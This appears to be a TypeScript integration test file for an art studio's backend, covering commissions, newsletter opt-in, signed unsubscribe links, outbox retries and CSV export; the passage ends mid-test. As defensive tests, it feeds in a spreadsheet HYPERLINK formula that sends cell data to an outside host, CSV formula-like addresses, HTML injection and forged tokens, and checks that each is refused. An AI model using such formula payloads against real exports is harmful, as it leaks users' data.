import { createHmac } from 'node:crypto';
import { DataSource } from 'typeorm';
import { dataSourceOptions, MIGRATIONS } from '@sawa/api/database';
import { createTestDatabase, TestDatabase } from '@sawa/api/database/testing';
import { OutboxService } from '@sawa/api/messaging';
import { RetentionJob } from '@sawa/api/privacy';
import { MESSAGES } from '@sawa/shared/domain';
import { createTestApp, TestApp } from './harness';
import { png } from './support/images';
import { confirmationLink, subscribeConfirmed } from './support/newsletter';
import { startSmtp, TestSmtp, textOf } from './support/smtp';
import { ENTITIES } from '../src/entities';

const COMMISSION = {
  name: 'Grace Uwimana',
  email: 'Grace@Example.org',
  phone: '+250 788 123 456',
  country: 'Rwanda',
  artworkType: 'Painting',
  size: '60 x 90 cm',
  stylePreferences: 'Warm colours, realistic',
  message: 'A golden monkey in bamboo, for our living room.',
};

const gql = (t: TestApp, query: string, variables: Record<string, unknown> = {}, headers: Record<string, string> = {}) =>
  t.http().post('/graphql').set('content-type', 'application/json').set(headers).send({ query, variables });

/** Each sign-up of the opt-in tests from its own address: the newsletter's rate limit (10 a minute per client) is another test's. */
let clients = 0;
const otherClient = () => ({ 'x-forwarded-for': `198.51.100.${(clients = (clients % 250) + 1)}` });

const sendCommission = (t: TestApp, fields: Record<string, string>, image?: { data: Buffer; name: string; type: string }) => {
  const req = t.http().post('/api/v1/commissions/send-commission');
  for (const [key, value] of Object.entries(fields)) req.field(key, value);
  if (image) req.attach('referenceImage', image.data, { filename: image.name, contentType: image.type });
  return req;
};

describe('messaging with a working mail server', () => {
  let t: TestApp;
  let smtp: TestSmtp;
  let outbox: OutboxService;

  beforeAll(async () => {
    smtp = await startSmtp();
    t = await createTestApp({
      SMTP_URL: smtp.url,
      STUDIO_EMAIL: 'studio@sawa.example',
      MAIL_FROM: 'Sawa Art Studio <hello@sawa.example>',
      MAIL_WORKER_INTERVAL_SECONDS: '0',
      MAIL_RETRY_BASE_SECONDS: '0',
      MAIL_MAX_ATTEMPTS: '3',
      PUBLIC_URL: 'https://sawa.example',
    });
    outbox = t.app.get(OutboxService);
  });
  afterAll(async () => {
    await t.close();
    await smtp.close();
  });
  beforeEach(() => (smtp.received.length = 0));

  it('stores a commission request with its image and mails it to the studio (image attached) and an acknowledgement to the requester', async () => {
    const res = await sendCommission(t, COMMISSION, { data: await png(800, 600), name: 'monkey.png', type: 'image/png' }).expect(200);
    expect(res.body).toMatchObject({ status: 'success', message: MESSAGES.commission.sent });
    const [row] = await t.dataSource.query('SELECT * FROM commission_request WHERE id = $1', [res.body.data.id]);
    expect(row).toMatchObject({ name: 'Grace Uwimana', email: 'grace@example.org', status: 'new', artwork_type: 'Painting' });
    expect(row.reference_image_id).toBeTruthy();

    expect(await outbox.deliverDue()).toBe(2);
    const toStudio = smtp.received.find((m) => m.to.includes('studio@sawa.example'))!;
    expect(toStudio).toBeDefined();
    expect(toStudio.from).toBe('hello@sawa.example');
    expect(toStudio.raw).toMatch(/^Subject: Commission request from Grace Uwimana: Painting/m);
    expect(toStudio.raw).toMatch(/^Reply-To: grace@example\.org/m);
    expect(toStudio.raw).toMatch(/Content-Type: image\/jpeg;?\s+name=reference-[0-9a-f]{8}\.jpg/);
    expect(toStudio.raw).toMatch(/Content-Disposition: attachment;\s+filename=reference-[0-9a-f]{8}\.jpg/);
    expect(textOf(toStudio.raw)).toContain('A golden monkey in bamboo, for our living room.');
    const ack = smtp.received.find((m) => m.to.includes('grace@example.org'))!;
    expect(ack.raw).toMatch(/^Subject: We received your commission request/m);
    const statuses = await t.dataSource.query(`SELECT status, count(*)::int AS n FROM outbox_message GROUP BY status`);
    expect(statuses).toEqual([{ status: 'sent', n: 2 }]);
  });

  it('takes the same request through GraphQL with an Upload, and escapes what visitors typed in the HTML mail', async () => {
    const operations = JSON.stringify({
      query: 'mutation ($input: CommissionRequestInput!, $image: Upload) { requestCommission(input: $input, referenceImage: $image) { id message } }',
      variables: { input: { ...COMMISSION, name: '<b>Bold</b> Visitor' }, image: null },
    });
    const res = await t
      .http()
      .post('/graphql')
      .set('apollo-require-preflight', 'true')
      .field('operations', operations)
      .field('map', JSON.stringify({ 0: ['variables.image'] }))
      .attach('0', await png(), { filename: 'ref.png', contentType: 'image/png' })
      .expect(200);
    expect(res.body.errors).toBeUndefined();
    expect(res.body.data.requestCommission.message).toBe(MESSAGES.commission.sent);
    await outbox.deliverDue();
    const toStudio = textOf(smtp.received.find((m) => m.to.includes('studio@sawa.example'))!.raw);
    expect(toStudio).toContain('&lt;b&gt;Bold&lt;/b&gt; Visitor');
    expect(toStudio).not.toMatch(/<td[^>]*><b>Bold/);
  });

  it('retries a message the mail server refused, with backoff, until it is accepted', async () => {
    smtp.refuseNext(1);
    await t.http().post('/api/v1/mail/subscribe').send({ email: 'retry@example.org' }).expect(200);
    expect(await outbox.deliverDue()).toBe(0);
    const [pending] = await t.dataSource.query(`SELECT status, attempts, last_error FROM outbox_message WHERE "to" = 'retry@example.org'`);
    expect(pending).toMatchObject({ status: 'pending', attempts: 1 });
    expect(pending.last_error).toMatch(/451/);
    expect(await outbox.deliverDue()).toBe(1);
    expect(smtp.received.map((m) => m.to[0])).toEqual(['retry@example.org']);
    const [sent] = await t.dataSource.query(`SELECT status, attempts FROM outbox_message WHERE "to" = 'retry@example.org'`);
    expect(sent).toEqual({ status: 'sent', attempts: 2 });
  });

  it('subscribes an address once whatever its case and spaces, and the mail links to an unsubscribe page that asks, and unsubscribes on POST', async () => {
    const first = await t.http().post('/api/v1/mail/subscribe').send({ email: '  Reader@Example.ORG ' }).expect(200);
    expect(first.body).toMatchObject({ status: 'success', data: { message: MESSAGES.newsletter.subscribed } });
    const again = await gql(t, 'mutation { subscribeToNewsletter(email: "reader@example.org") { message } }').expect(200);
    expect(again.body.data.subscribeToNewsletter.message).toBe(MESSAGES.newsletter.subscribed);
    expect(await t.dataSource.query(`SELECT email FROM newsletter_subscriber WHERE email LIKE 'reader%'`)).toEqual([{ email: 'reader@example.org' }]);
    await t
      .http()
      .post(await confirmationLink(t, 'reader@example.org'))
      .expect(200);

    await outbox.deliverDue();
    // The confirmation mail (one: the second sign-up, before confirming, sends nothing) and the welcome mail.
    expect(smtp.received.map((m) => /^Subject: (.*)$/m.exec(m.raw)![1])).toEqual([
      'Please confirm your subscription to the Sawa Art Studio newsletter',
      'Welcome to the Sawa Art Studio newsletter',
    ]);
    const link = /https:\/\/sawa\.example(\/api\/v1\/mail\/unsubscribe\?token=[^\s"<]+)/.exec(textOf(smtp.received[1].raw))![1];

    // A changed signature character, and a same-bytes variant (the last character's unused bits), are both refused.
    const forged = link.replace(/(.)(.{10})$/, (_, c: string, rest: string) => (c === 'A' ? 'B' : 'A') + rest);
    await t.http().get(forged).expect(400).expect('content-type', /html/);
    const last = link.slice(-1);
    const variant =
      link.slice(0, -1) +
      'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'['ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'.indexOf(last) ^ 1];
    await t.http().get(variant).expect(400);
    expect((await t.dataSource.query(`SELECT unsubscribed_at FROM newsletter_subscriber WHERE email = 'reader@example.org'`))[0].unsubscribed_at).toBeNull();

    // Opening the link (a person, or a mail scanner) only asks: nothing changes.
    const ask = await t.http().get(link).expect(200).expect('content-type', /html/);
    expect(ask.text).toContain('Unsubscribe from the newsletter?');
    expect(ask.text).toContain('<form method="post" action="/api/v1/mail/unsubscribe?token=');
    expect((await t.dataSource.query(`SELECT unsubscribed_at FROM newsletter_subscriber WHERE email = 'reader@example.org'`))[0].unsubscribed_at).toBeNull();
    await t.http().post(forged).expect(400);
    // Its button (or a mail client's one-click unsubscribe) POSTs.
    const page = await t.http().post(link).type('form').send('List-Unsubscribe=One-Click').expect(200).expect('content-type', /html/);
    expect(page.text).toContain('reader@example.org will not receive');
    expect((await t.http().get(link).expect(200)).text).toContain('You are unsubscribed');
    expect(
      (await t.dataSource.query(`SELECT unsubscribed_at FROM newsletter_subscriber WHERE email = 'reader@example.org'`))[0].unsubscribed_at,
    ).not.toBeNull();
  });

  it('double opt-in: a sign-up mails a confirmation link, and the address is a subscriber (welcome mail, back office, count, CSV) only once its page is confirmed', async () => {
    const auth = { authorization: `Bearer ${await t.token()}` };
    const backOffice = async () => {
      const res = await gql(t, '{ newsletterSubscribers(search: "optin") { totalItems items { email subscribed } } newsletterSubscriberCount }', {}, auth);
      const csv = await t.http().get('/api/v1/mail/subscribers.csv').set(auth).expect(200);
      return { ...res.body.data, inCsv: csv.text.includes('optin@example.org') };
    };
    const mailsTo = async () =>
      (await t.dataSource.query(`SELECT subject FROM outbox_message WHERE "to" = 'optin@example.org' ORDER BY created_at`)).map(
        (row: { subject: string }) => row.subject,
      );
    const CONFIRM = 'Please confirm your subscription to the Sawa Art Studio newsletter';
    const WELCOME = 'Welcome to the Sawa Art Studio newsletter';
    const before = (await backOffice()).newsletterSubscriberCount as number;

    // The SPEC's answer, unchanged; a second sign-up before confirming sends no second mail.
    const res = await t.http().post('/api/v1/mail/subscribe').set(otherClient()).send({ email: 'OptIn@example.org' }).expect(200);
    expect(res.body).toEqual({ status: 'success', message: MESSAGES.newsletter.subscribed, data: { message: MESSAGES.newsletter.subscribed } });
    await t.http().post('/api/v1/mail/subscribe').set(otherClient()).send({ email: 'optin@example.org' }).expect(200);
    expect(await mailsTo()).toEqual([CONFIRM]);
    expect(await backOffice()).toEqual({ newsletterSubscribers: { totalItems: 0, items: [] }, newsletterSubscriberCount: before, inCsv: false });

    expect(await outbox.deliverDue()).toBe(1);
    const text = textOf(smtp.received[0].raw);
    expect(text).toContain('To confirm, open this link within 7 days: https://sawa.example/api/v1/mail/confirm?token=');
    const link = /https:\/\/sawa\.example(\/api\/v1\/mail\/confirm\?token=[^\s"<]+)/.exec(text)![1];

    // Opening the link (a person, or a mail scanner) only asks: nothing changes.
    const ask = await t.http().get(link).expect(200).expect('content-type', /html/);
    expect(ask.headers['cache-control']).toBe('no-store');
    expect(ask.text).toContain('Confirm your subscription');
    expect(ask.text).toContain('<form method="post" action="/api/v1/mail/confirm?token=');
    expect(await mailsTo()).toEqual([CONFIRM]);
    expect((await backOffice()).newsletterSubscriberCount).toBe(before);

    // A changed signature, or a link for another time, is refused.
    const forged = link.replace(/(.)(.{10})$/, (_, c: string, rest: string) => (c === 'A' ? 'B' : 'A') + rest);
    await t
      .http()
      .get(forged)
      .expect(400, /not valid/);
    await t.http().post(forged).expect(400);
    const token = decodeURIComponent(link.split('token=')[1]);
    const [id, millis, signature] = token.split('.');
    await t
      .http()
      .post(`/api/v1/mail/confirm?token=${encodeURIComponent(`${id}.${Number(millis) - 1}.${signature}`)}`)
      .expect(400);
    expect((await backOffice()).newsletterSubscriberCount).toBe(before);

    // The button confirms: subscribed, welcomed (with its unsubscribe link), counted, exported.
    const done = await t.http().post(link).expect(200).expect('content-type', /html/);
    expect(done.text).toContain('optin@example.org will receive the Sawa Art Studio newsletter');
    expect(await mailsTo()).toEqual([CONFIRM, WELCOME]);
    expect(await backOffice()).toEqual({
      newsletterSubscribers: { totalItems: 1, items: [{ email: 'optin@example.org', subscribed: true }] },
      newsletterSubscriberCount: before + 1,
      inCsv: true,
    });
    expect(await outbox.deliverDue()).toBe(1);
    expect(textOf(smtp.received[1].raw)).toMatch(/To unsubscribe at any time, open: https:\/\/sawa\.example\/api\/v1\/mail\/unsubscribe\?token=/);

    // Confirming twice is harmless; signing up again when subscribed changes nothing, sends nothing, and answers the same.
    expect((await t.http().post(link).expect(200)).text).toContain('You are subscribed');
    expect((await t.http().get(link).expect(200)).text).toContain('You are subscribed');
    const again = await t.http().post('/api/v1/mail/subscribe').set(otherClient()).send({ email: 'optin@example.org' }).expect(200);
    expect(again.body).toEqual(res.body);
    const viaGraphql = await gql(t, 'mutation { subscribeToNewsletter(email: "optin@example.org") { message } }', {}, otherClient()).expect(200);
    expect(viaGraphql.body).toEqual({ data: { subscribeToNewsletter: { message: MESSAGES.newsletter.subscribed } } });
    expect(await mailsTo()).toEqual([CONFIRM, WELCOME]);
    expect((await backOffice()).newsletterSubscriberCount).toBe(before + 1);

    // After unsubscribing, the old link subscribes nobody again; a new sign-up gets a new link at once.
    const unsubscribeLink = /(\/api\/v1\/mail\/unsubscribe\?token=[^\s"<]+)/.exec(textOf(smtp.received[1].raw))![1];
    await t.http().post(unsubscribeLink).expect(200);
    await t.http().post(link).expect(400);
    expect((await backOffice()).newsletterSubscribers.items).toEqual([{ email: 'optin@example.org', subscribed: false }]);
    await t.http().post('/api/v1/mail/subscribe').set(otherClient()).send({ email: 'optin@example.org' }).expect(200);
    expect(await mailsTo()).toEqual([CONFIRM, WELCOME, CONFIRM]);
    const renewed = await confirmationLink(t, 'optin@example.org');
    expect(renewed).not.toBe(link);
    await t.http().post(renewed).expect(200);
    expect((await backOffice()).newsletterSubscribers.items).toEqual([{ email: 'optin@example.org', subscribed: true }]);
    expect(await mailsTo()).toEqual([CONFIRM, WELCOME, CONFIRM, WELCOME]);
  });

  it('an unconfirmed sign-up expires: its link stops working after 7 days, and the retention job deletes it with its mail', async () => {
    await t.http().post('/api/v1/mail/subscribe').set(otherClient()).send({ email: 'late@example.org' }).expect(200);
    await t.http().post('/api/v1/mail/subscribe').set(otherClient()).send({ email: 'fresh@example.org' }).expect(200);
    await subscribeConfirmed(t, 'kept-long@example.org', otherClient());
    // Some days on for two of them: their rows and their links as they would be then (whole seconds: exact in both).
    const [{ value: key }] = await t.dataSource.query(`SELECT value FROM shared_secret WHERE name = 'unsubscribe'`);
    const [{ id }] = await t.dataSource.query(`SELECT id FROM newsletter_subscriber WHERE email = 'late@example.org'`);
    const sentDaysAgo = async (days: number) => {
      const millis = (Math.floor(Date.now() / 1000) - days * 24 * 3600) * 1000;
      await t.dataSource.query(
        `UPDATE newsletter_subscriber SET confirmation_sent_at = to_timestamp($1) WHERE email IN ('late@example.org', 'kept-long@example.org')`,
        [millis / 1000],
      );
      return `${id}.${millis}.${createHmac('sha256', key as string)
        .update(`confirm-subscription:${id}:${millis}`)
        .digest('base64url')}`;
    };
    // Six days on, the link still works (it asks); eight days on, it has expired.
    expect(
      (
        await t
          .http()
          .get('/api/v1/mail/confirm')
          .query({ token: await sentDaysAgo(6) })
          .expect(200)
      ).text,
    ).toContain('Confirm your subscription');
    const expired = await sentDaysAgo(8);
    const page = await t.http().get('/api/v1/mail/confirm').query({ token: expired }).expect(400);
    expect(page.text).toContain('has expired (it works for 7 days)');
    await t.http().post('/api/v1/mail/confirm').query({ token: expired }).expect(400);

    const report = await t.app.get(RetentionJob).pruneOnce();
    expect(report.unconfirmedSignUps).toBe(1);
    const left = await t.dataSource.query(
      `SELECT email, confirmed_at IS NOT NULL AS confirmed FROM newsletter_subscriber WHERE email IN ('late@example.org', 'fresh@example.org', 'kept-long@example.org') ORDER BY email`,
    );
    expect(left).toEqual([
      { email: 'fresh@example.org', confirmed: false },
      { email: 'kept-long@example.org', confirmed: true },
    ]);
    expect(await t.dataSource.query(`SELECT 1 FROM outbox_message WHERE "to" = 'late@example.org'`)).toEqual([]);
  });

  it('refuses a bad address with a clear message and writes nothing', async () => {
    const res = await t.http().post('/api/v1/mail/subscribe').send({ email: 'not-an-address' }).expect(400);
    expect(res.body.message).toBe('email must be a valid e-mail address');
    await t.http().post('/api/v1/mail/subscribe').send({}).expect(400);
    expect(await t.dataSource.query(`SELECT 1 FROM newsletter_subscriber WHERE email = 'not-an-address'`)).toEqual([]);
  });

  it('applies the one e-mail rule: a spreadsheet formula and a one-letter top-level domain are refused by REST and GraphQL', async () => {
    for (const email of ['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', 'a@b.c']) {
      const rest = await t.http().post('/api/v1/mail/subscribe').send({ email }).expect(400);
      expect(rest.body).toEqual({ status: 'fail', message: 'email must be a valid e-mail address' });
      const graphql = await gql(t, 'mutation ($e: String!) { subscribeToNewsletter(email: $e) { message } }', { e: email }).expect(200);
      expect(graphql.body.errors[0]).toMatchObject({ message: 'email must be a valid e-mail address', extensions: { code: 'BAD_USER_INPUT' } });
    }
    expect(await t.dataSource.query(`SELECT email FROM newsletter_subscriber WHERE email LIKE '%hyperlink%' OR email = 'a@b.c'`)).toEqual([]);
  });

  it('exports an address that starts like a formula as text, never as a formula', async () => {
    await subscribeConfirmed(t, '=1+2@example.org');
    await subscribeConfirmed(t, '-cmd@example.org');
    const csv = await t
      .http()
      .get('/api/v1/mail/subscribers.csv')
      .set('authorization', `Bearer ${await t.token()}`)
      .expect(200);
    const emails = csv.text.split('\r\n').map((line) => line.split(',')[0]);
    expect(emails).toEqual(expect.arrayContaining(["'=1+2@example.org", "'-cmd@example.org"]));
    expect(emails.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('lets the admin read subscribers, export them as CSV, and read the outbox', async () => {
    const token = await t.token();
    const auth = { authorization: `Bearer ${token}` };
    await t.http().get('/api/v1/mail/subscribers.csv').expect(401);
    const csv = await t
      .http()
      .get('/api/v1/mail/subscribers.csv')
      .set(auth)
      .expect(200)
      .expect('content-type', /text\/csv/);
    expect(csv.text.split('\r\n')[0]).toBe('email,subscribed_at,unsubscribed_at');
    expect(csv.text).toContain('reader@example.org,');
    const list = await gql(
      t,
      '{ newsletterSubscribers(search: "READER") { totalItems items { email subscribed } } newsletterSubscriberCount outboxMessages(status: sent) { totalItems items { to status attempts } } }',
      {},
      auth,
    ).expect(200);
    expect(list.body.data.newsletterSubscribers).toEqual({ totalItems: 1, items: [{ email: 'reader@example.org', subscribed: false }] });
    expect(list.body.data.outboxMessages.totalItems).toBeGreaterThanOrEqual(4);
    const denied = await gql(t, '{ outboxMessages { totalItems } }').expect(200);
    expect(denied.body.errors[0].extensions.code).toBe('UNAUTHENTICATED');
  });
});

describe('messaging when the mail server is down or absent', () => {
  it('keeps every message in the outbox when SMTP_URL is unset, where the admin reads it whole (text and HTML)', async () => {
    const t = await createTestApp({ MAIL_WORKER_INTERVAL_SECONDS: '0' });
    try {
      await t.http().post('/api/v1/mail/subscribe').send({ email: 'kept@example.org' }).expect(200);
      expect(await t.app.get(OutboxService).deliverDue()).toBe(0);
      const rows = await t.dataSource.query(`SELECT status, subject, html, text FROM outbox_message`);
      const subject = 'Please confirm your subscription to the Sawa Art Studio newsletter';
      expect(rows).toEqual([{ status: 'pending', subject, html: expect.any(String), text: expect.any(String) }]);
      const read = await gql(
        t,
        '{ outboxMessages(status: pending) { items { to replyTo subject text html } } }',
        {},
        { authorization: `Bearer ${await t.token()}` },
      );
      expect(read.body.data.outboxMessages.items).toEqual([{ to: 'kept@example.org', replyTo: null, subject, text: rows[0].text, html: rows[0].html }]);
      expect(rows[0].text).toMatch(/To confirm, open this link within 7 days: http:\/\/\S+\/api\/v1\/mail\/confirm\?token=/);
      expect(rows[0].html).toMatch(/<a [^>]*href="[^"]*\/api\/v1\/mail\/confirm\?token=/);
      // The back office is told that mail cannot leave, and what waits (the outbox, the dashboard and the go-live panel warn from it).
      const status = await gql(t, '{ mailStatus { configured waiting failed oldestWaitingAt } }', {}, { authorization: `Bearer ${await t.token()}` });
      expect(status.body.data.mailStatus).toEqual({ configured: false, waiting: 1, failed: 0, oldestWaitingAt: expect.any(String) });
      // Only for the staff who manage mail.
      expect((await gql(t, '{ mailStatus { configured } }')).body.errors[0].extensions.code).toBe('UNAUTHENTICATED');
    } finally {
      await t.close();
    }
  });

  it('marks a message failed after the last attempt, never drops it, and the admin can queue it again', async () => {
    const smtp = await startSmtp();
    const url = smtp.url;
    await smtp.close(); // nothing listens there any more
    const t = await createTestApp({ SMTP_URL: url, MAIL_WORKER_INTERVAL_SECONDS: '0', MAIL_RETRY_BASE_SECONDS: '0', MAIL_MAX_ATTEMPTS: '2' });
    try {
      await t.http().post('/api/v1/mail/subscribe').send({ email: 'down@example.org' }).expect(200);
      const outbox = t.app.get(OutboxService);
      await outbox.deliverDue();
      await outbox.deliverDue();
      const [failed] = await t.dataSource.query(`SELECT id, status, attempts, last_error FROM outbox_message`);
      expect(failed).toMatchObject({ status: 'failed', attempts: 2 });
      expect(failed.last_error).toMatch(/ECONNREFUSED|connect/i);
      const auth = { authorization: `Bearer ${await t.token()}` };
      const retried = await gql(t, 'mutation ($id: ID!) { retryOutboxMessage(id: $id) { status attempts } }', { id: failed.id }, auth).expect(200);
      expect(retried.body.data.retryOutboxMessage).toEqual({ status: 'pending', attempts: 0 });
    } finally {
      await t.close();
    }
  });
});

describe('commission request validation and abuse', () => {
  let t: TestApp;
  beforeAll(async () => (t = await createTestApp({ MAIL_WORKER_INTERVAL_SECONDS: '0' })));
  afterAll(() => t.close());

  it('refuses missing fields and a bad e-mail with clear messages, and stores nothing', async () => {
    const { message: _omit, ...rest } = COMMISSION;
    const res = await sendCommission(t, { ...rest, email: 'nope' }).expect(400);
    expect(res.body.status).toBe('fail');
    expect(res.body.message).toEqual(expect.stringContaining('message is required'));
    expect(res.body.message).toEqual(expect.stringContaining('email must be a valid e-mail address'));
    expect(await t.dataSource.query('SELECT 1 FROM commission_request')).toEqual([]);
  });

  it('refuses a reference image that is not an image (415), and stores and mails nothing', async () => {
    await sendCommission(t, COMMISSION, { data: Buffer.from('just text, not a picture'), name: 'notes.png', type: 'image/png' }).expect(415);
    expect(await t.dataSource.query('SELECT 1 FROM commission_request')).toEqual([]);
    expect(await t.dataSource.query('SELECT 1 FROM outbox_message')).toEqual([]);
  });

  it('answers a filled honeypot as a success but keeps and sends nothing', async () => {
    const res = await sendCommission(t, { ...COMMISSION, website: 'http://spam.example' }).expect(200);
    expect(res.body.message).toBe(MESSAGES.commission.sent);
    expect(await t.dataSource.query('SELECT 1 FROM commission_request')).toEqual([]);
  });

  it('limits commission requests per client (429 after 5 in 10 minutes)', async () => {
    // Three requests were made above; two more pass, the sixth is refused.
    await sendCommission(t, COMMISSION).expect(200);
    await sendCommission(t, COMMISSION).expect(200);
    const res = await sendCommission(t, COMMISSION).expect(429);
    expect(res.body.message).toMatch(/Too many requests/);
  });
});

describe('first-party page views', () => {
  let t: TestApp;
  beforeAll(async () => (t = await createTestApp({ PUBLIC_URL: 'https://sawa.example' })));
  afterAll(() => t.close());

  const view = (path: string, referrer: string | null, userAgent: string) =>
    gql(t, 'mutation ($p: String!, $r: String) { recordPageView(path: $p, referrer: $r) }', { p: path, r: referrer }, { 'user-agent': userAgent }).expect(200);
  const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36';

  it('stores path, external referrer host and day only; bots and back-office pages are not counted', async () => {
    expect((await view('/shop?page=2', 'https://www.google.com/search?q=gorilla+painting', BROWSER)).body.data.recordPageView).toBe(true);
    expect((await view('/product/1', 'https://sawa.example/shop', BROWSER)).body.data.recordPageView).toBe(true);
    expect((await view('/', null, 'Mozilla/5.0 (compatible; Googlebot/2.1)')).body.data.recordPageView).toBe(false);
    expect((await view('/admin/dashboard', null, BROWSER)).body.data.recordPageView).toBe(false);
    expect((await view('/ADMIN/orders', null, BROWSER)).body.data.recordPageView).toBe(false);
    expect((await view('/sawa-admin-login', null, BROWSER)).body.data.recordPageView).toBe(false);
    const bad = await view('https://evil.example/', null, BROWSER);
    expect(bad.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');

    const rows = await t.dataSource.query('SELECT path, referrer, day = CURRENT_DATE AS today FROM page_view ORDER BY id');
    expect(rows).toEqual([
      { path: '/shop', referrer: 'www.google.com', today: true },
      { path: '/product/1', referrer: null, today: true },
    ]);
    const columns = (await t.dataSource.query(`SELECT column_name FROM information_schema.columns WHERE table_name = 'page_view' ORDER BY column_name`)).map(
      (c: { column_name: string }) => c.column_name,
    );
    expect(columns).toEqual(['day', 'id', 'path', 'referrer']);
  });

  it('gives the admin views per day for 30 days, zeros included, and the top pages', async () => {
    await t.dataSource.query(`INSERT INTO page_view (path, referrer, day) VALUES ('/shop', NULL, CURRENT_DATE - 3), ('/shop', NULL, CURRENT_DATE - 40)`);
    const res = await gql(
      t,
      '{ pageViewStats(days: 30) { days totalViews perDay { day views } topPages { path views } } }',
      {},
      { authorization: `Bearer ${await t.token()}` },
    ).expect(200);
    const stats = res.body.data.pageViewStats;
    expect(stats.perDay).toHaveLength(30);
    expect(stats.perDay.filter((d: { views: number }) => d.views === 0)).toHaveLength(28);
    expect(stats.perDay[29].views).toBe(2);
    expect(stats.perDay[26].views).toBe(1);
    expect(stats.totalViews).toBe(3);
    expect(stats.topPages).toEqual([
      { path: '/shop', views: 2 },
      { path: '/product/1', views: 1 },
    ]);
  });

  it('never stores an order number or a visit reference (the only key to their pages): the route pattern instead', async () => {
    await t.dataSource.query('DELETE FROM page_view');
    // However the address is spelt, as the router reads it (site-routes.ts): any case, escapes decoded.
    for (const path of [
      '/order/SAWA-7K3F9QXM',
      '/order/SAWA-0000AAAA?paid=1',
      '/ORDER/SAWA-7K3F9QXM',
      '/%6Frder/SAWA-7K3F9QXM',
      '/visit/VISIT-7K3F9QXM',
      '/visit/VISIT-7K3F9QXM/',
      '/Vis%69t/VISIT-7K3F9QXM',
      '/shop',
    ]) {
      expect((await view(path, null, BROWSER)).body.data.recordPageView).toBe(true);
    }
    const rows = await t.dataSource.query('SELECT path FROM page_view ORDER BY id');
    expect(rows.map((r: { path: string }) => r.path)).toEqual([
      '/order/:number',
      '/order/:number',
      '/order/:number',
      '/order/:number',
      '/visit/:reference',
      '/visit/:reference',
      '/visit/:reference',
      '/shop',
    ]);
    expect(await t.dataSource.query(`SELECT 1 FROM page_view WHERE path ~ '(SAWA|VISIT)-'`)).toEqual([]);
  });
});

describe('commission inbox', () => {
  it('lets the admin change a request status and notes, and refuses an unknown status', async () => {
    const t = await createTestApp({ MAIL_WORKER_INTERVAL_SECONDS: '0' });
    try {
      const sent = await sendCommission(t, COMMISSION).expect(200);
      const auth = { authorization: `Bearer ${await t.token()}` };
      const update =
        'mutation ($id: ID!, $status: CommissionStatus, $notes: String) { updateCommissionRequest(id: $id, status: $status, notes: $notes) { status notes } }';
      const res = await gql(t, update, { id: sent.body.data.id, status: 'replied' }, auth).expect(200);
      expect(res.body.data.updateCommissionRequest).toEqual({ status: 'replied', notes: '' });
      const noted = await gql(t, update, { id: sent.body.data.id, notes: 'Called her back.' }, auth).expect(200);
      expect(noted.body.data.updateCommissionRequest).toEqual({ status: 'replied', notes: 'Called her back.' });
      const bad = await gql(t, update, { id: sent.body.data.id, status: 'lost' }, auth);
      expect(bad.body.errors[0].message).toMatch(/CommissionStatus/);
      const list = await gql(t, '{ commissionRequests(status: replied) { totalItems items { name referenceImage { url } } } }', {}, auth).expect(200);
      expect(list.body.data.commissionRequests).toEqual({ totalItems: 1, items: [{ name: 'Grace Uwimana', referenceImage: null }] });
    } finally {
      await t.close();
    }
  });
});

describe('unsubscribe links have their own key', () => {
  const JWT_A = 'admin-token-key-before-rotation-0123456789';
  const JWT_B = 'admin-token-key-after-rotation-9876543210ab';
  const sign = (id: string, key: string) => `${id}.${createHmac('sha256', key).update(`unsubscribe:${id}`).digest('base64url')}`;
  const unsubscribe = (t: TestApp, token: string) => t.http().post('/api/v1/mail/unsubscribe').query({ token });
  const linkTo = async (t: TestApp, email: string) => {
    const [{ text }] = await t.dataSource.query(`SELECT text FROM outbox_message WHERE "to" = $1 AND text LIKE '%unsubscribe?token=%'`, [email]);
    return decodeURIComponent(/unsubscribe\?token=([^\s"<]+)/.exec(text as string)![1]);
  };
  let db: TestDatabase;
  const apps: TestApp[] = [];
  let oldSubscriber: string;
  beforeAll(async () => {
    // A database of the version before: its subscribers' links were signed with the admin tokens' key.
    db = await createTestDatabase();
    const before = MIGRATIONS.findIndex((m) => m.name === 'UnsubscribeKey1797110000000');
    const ds = new DataSource({ ...dataSourceOptions(db.url, ENTITIES), migrations: MIGRATIONS.slice(0, before), migrationsRun: false });
    await ds.initialize();
    await ds.runMigrations({ transaction: 'all' });
    [{ id: oldSubscriber }] = await ds.query(`INSERT INTO newsletter_subscriber (email) VALUES ('early@example.org') RETURNING id`);
    await ds.destroy();
  });
  afterAll(async () => {
    for (const t of apps.reverse()) await t.close();
    await db.drop();
  });
  const start = async (env: Record<string, string>) => {
    const t = await createTestApp({ MAIL_WORKER_INTERVAL_SECONDS: '0', ...env }, undefined, { database: { databaseUrl: db.url } });
    apps.push(t);
    return t;
  };

  it('signs with a key shared through the database, not the admin tokens key, so rotating JWT_SECRET breaks no link', async () => {
    const a = await start({ JWT_SECRET: JWT_A });
    await subscribeConfirmed(a, 'new@example.org');
    const token = await linkTo(a, 'new@example.org');
    const [{ value: key }] = await a.dataSource.query(`SELECT value FROM shared_secret WHERE name = 'unsubscribe'`);
    const id = token.split('.')[0];
    expect(token).toBe(sign(id, key as string));
    expect(token).not.toBe(sign(id, JWT_A));
    // A link signed with the admin tokens' key is refused for an address that subscribed under this version.
    await unsubscribe(a, sign(id, JWT_A)).expect(400);

    const rotated = await start({ JWT_SECRET: JWT_B });
    await unsubscribe(rotated, token).expect(200, /new@example\.org will not receive/);
  });

  it('still accepts the links an older version signed with the admin tokens key, for its subscribers only, while that key is unchanged', async () => {
    const [a, rotated] = apps;
    // Signed with the key of that time: an instance on a rotated key cannot check it any more.
    await unsubscribe(rotated, sign(oldSubscriber, JWT_A)).expect(400);
    await unsubscribe(a, sign(oldSubscriber, JWT_A)).expect(200, /early@example\.org will not receive/);
  });

  it('signs with UNSUBSCRIBE_SECRET when it is set', async () => {
    const secret = 'an-operator-chosen-unsubscribe-key-0123456789';
    const t = await start({ JWT_SECRET: JWT_A, UNSUBSCRIBE_SECRET: secret });
    await subscribeConfirmed(t, 'configured@example.org');
    const token = await linkTo(t, 'configured@example.org');
